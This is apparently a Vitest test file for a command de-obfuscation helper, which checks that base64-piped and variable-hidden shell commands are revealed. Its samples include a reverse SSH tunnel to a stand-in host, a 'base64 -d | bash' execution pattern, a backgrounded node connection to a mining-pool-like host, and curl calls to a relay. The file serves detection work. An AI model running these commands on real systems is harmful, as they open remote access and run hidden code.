import { expect, test } from 'vitest'
import { revealedCommand } from './revealed.ts'

const tunnel = 'ssh -f -N -R 18005:10.0.8.26:22555 -p 8443 dev@203.0.113.9'

test.each([
  ['piped through base64', `echo ${btoa(tunnel)} | base64 -d | bash`, tunnel],
  [
    'program text in base64',
    `nohup node -e "$(echo ${btoa("connect(3333, 'pool.example')")} | base64 -d)" > /tmp/log 2>&1 &`,
    "node -e 'connect(3333, 'pool.example')'",
  ],
  [
    'behind a variable',
    'H=relay.example.net; curl -s "https://$H/up"',
    'curl -s https://relay.example.net/up',
  ],
])('%s', (_, text, plain) => {
  expect(revealedCommand(text)).toBe(plain)
})

test.each([
  ['plain', tunnel],
  ['quoted', `bash -c "${tunnel}"`],
  ['a loop', 'for p in left-trim tiny-args; do curl -s https://registry.example.org/$p; done'],
  ['nothing at all', ''],
])('nothing is hidden in %s', (_, text) => {
  expect(revealedCommand(text)).toBeUndefined()
})
